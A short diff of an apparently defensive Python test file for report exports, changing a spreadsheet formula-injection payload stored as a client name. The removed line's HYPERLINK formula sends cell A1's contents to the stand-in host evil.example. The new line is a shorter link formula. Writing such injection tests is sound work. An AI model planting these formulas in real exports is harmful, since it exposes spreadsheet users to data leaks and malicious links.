@@ -174,7 +174,7 @@ def test_export_all_has_a_sheet_per_table_and_respects_the_scope(client, month):
     assert reports[-1][1] == 1
 
 
-EVIL_CLIENT = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+EVIL_CLIENT = '=HYPERLINK("http://e.cn","点")'  # fits Client.short_name (30)
 
 
 @pytest.mark.parametrize("url", ["reports:export", "reports:export-all"])
